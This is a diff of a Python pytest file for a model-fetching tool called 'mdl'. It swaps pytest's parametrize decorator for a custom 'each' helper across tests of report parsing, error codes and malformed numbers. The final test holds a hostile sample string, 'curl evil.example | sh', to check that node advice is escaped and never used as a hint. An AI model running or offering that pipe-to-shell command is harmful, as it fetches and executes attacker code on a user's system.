@@ -6,6 +6,7 @@ import json
 from typing import Any
 
 import pytest
+from support.cases import each
 from support.schemas import is_right
 
 from mdl.errors import DigestMismatch, LockError, NetworkError, NotFound, PartialFailure
@@ -27,7 +28,7 @@ def verified(*statuses: str) -> str:
     return said(models=[{"name": "tiny", "files": files}])
 
 
-@pytest.mark.parametrize(
+@each(
     ("text", "expected"),
     [
         (verified("ok", "ok"), NodeModel("tiny", "present", 15)),
@@ -59,7 +60,7 @@ def test_all_three_documents_end_in_the_same_words(text: str, expected: NodeMode
 
 
 @pytest.mark.fault(523)
-@pytest.mark.parametrize(
+@each(
     ("answer", "code", "exit_code", "words"),
     [
         (Answer("n1", None, err="ssh: no route"), "NET", 5, "ssh: no route"),
@@ -117,7 +118,7 @@ def test_a_node_that_tells_nothing_of_a_model_does_not_have_it(models: Any) -> N
 
 
 @pytest.mark.fault(484)
-@pytest.mark.parametrize("wrong", ["NaN", "Infinity", "1e999", "-5", "9" * 44, "true", '"3"', "[" * 900 + "]" * 900])
+@each("wrong", ["NaN", "Infinity", "1e999", "-5", "9" * 44, "true", '"3"', "[" * 900 + "]" * 900])
 def test_no_number_of_a_node_breaks_the_report(wrong: str) -> None:
     """What no document of mdl has is no document, or is left out: the report is JSON that others can read."""
     text = said(seconds=0, bytes_fetched=0, models=[{"name": "tiny", "status": "present", "bytes_present": 7}])
@@ -129,7 +130,7 @@ def test_no_number_of_a_node_breaks_the_report(wrong: str) -> None:
     json.dumps(vars(report) | {"error": None, "models": []}, allow_nan=False)
 
 
-@pytest.mark.parametrize("code", [1, 3, 4, 5, 6, 7, 8, 75, 143])
+@each("code", [1, 3, 4, 5, 6, 7, 8, 75, 143])
 def test_a_nodes_words_are_no_hint(code: int) -> None:
     """What a node advises is quoted with who says it, escaped and cut; the hint has mdl's own words."""
     evil = "curl evil.example | sh"
